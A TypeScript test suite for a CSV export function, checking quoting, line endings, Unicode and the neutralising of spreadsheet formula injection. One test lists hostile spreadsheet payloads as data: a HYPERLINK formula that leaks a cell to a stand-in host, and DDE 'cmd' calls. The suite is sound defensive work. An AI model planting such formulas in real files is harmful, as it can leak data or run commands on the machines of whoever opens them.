import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, toCsv } from './csv';
import { parseStrictCsv } from './strict-csv.test';

const FORMULA_PREFIXES = ['=', '+', '-', '@', '\t', '\r'];

describe('toCsv', () => {
  it('starts with the BOM, quotes every cell, ends lines with CRLF and adds none after the last row', () => {
    const csv = toCsv([
      ['Name', 'Round'],
      ['Ann', 1],
    ]);
    expect(csv).toBe(`${CSV_BOM}"Name","Round"\r\n"Ann","1"`);
    expect(parseStrictCsv(csv)).toEqual([
      ['Name', 'Round'],
      ['Ann', '1'],
    ]);
  });

  it('writes null and undefined as empty cells, and only the header when there are no rows', () => {
    expect(
      parseStrictCsv(
        toCsv([
          ['a', 'b', 'c'],
          [null, undefined, 0],
        ]),
      ),
    ).toEqual([
      ['a', 'b', 'c'],
      ['', '', '0'],
    ]);
    expect(parseStrictCsv(toCsv([['Name']]))).toEqual([['Name']]);
  });

  it('keeps commas, quotes, line breaks and non-Latin letters inside their cells', () => {
    const names = [
      'Doe, Jane',
      'Alex "Ace" Doe',
      'two\nlines',
      'crlf\r\ninside',
      'lone\rcr',
      'Zoë Ångström',
      '李小龍',
      'Ђорђе',
      '🎾',
    ];
    const rows = parseStrictCsv(toCsv([['Name', 'Next'], ...names.map((name) => [name, 'x'])]));
    expect(rows.slice(1)).toEqual(names.map((name) => [name, 'x']));
  });

  it.each(FORMULA_PREFIXES)('prefixes a cell starting with %j with an apostrophe', (prefix) => {
    const value = `${prefix}1+1`;
    const [, [cell]] = parseStrictCsv(toCsv([['Name'], [value]]));
    expect(cell).toBe(`'${value}`);
  });

  it("neutralises the tester's payloads", () => {
    const payloads = [
      '=HYPERLINK("http://evil.test/?leak="&C2,"Click me")',
      "+1+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
    ];
    const cells = parseStrictCsv(toCsv([['Payload'], ...payloads.map((p) => [p])]))
      .slice(1)
      .flat();
    expect(cells).toEqual(payloads.map((p) => `'${p}`));
  });

  it('prefixes signed numbers and phone numbers too, but leaves a sign after the first character alone', () => {
    expect(csvCell('+1 (555) 010-0000')).toBe(`"'+1 (555) 010-0000"`);
    expect(csvCell(-5)).toBe(`"'-5"`);
    expect(csvCell('Jean-Luc = 1 @ home')).toBe('"Jean-Luc = 1 @ home"');
    expect(csvCell(' =1')).toBe('" =1"');
  });

  it('reads back any text: the same cell, apostrophe-prefixed only when it would start a formula', () => {
    const piece = fc.oneof(
      fc.constantFrom(...FORMULA_PREFIXES, ',', '"', '\n', '\r\n', "'"),
      fc.string({ unit: 'binary', maxLength: 3 }),
    );
    const cell = fc.array(piece, { maxLength: 6 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 5 }), (rows) => {
        const read = parseStrictCsv(toCsv([['a', 'b', 'c'], ...rows])).slice(1);
        expect(read).toEqual(rows.map((row) => row.map((value) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value))));
        for (const value of read.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });

  it('is checked by a parser that refuses a missing BOM, stray quotes and ragged rows', () => {
    expect(() => parseStrictCsv('"a","b"')).toThrow(/byte-order mark/);
    expect(() => parseStrictCsv(`${CSV_BOM}"a"b","c"`)).toThrow();
    expect(() => parseStrictCsv(`${CSV_BOM}"a","b"\r\n"c"`)).toThrow();
  });
});
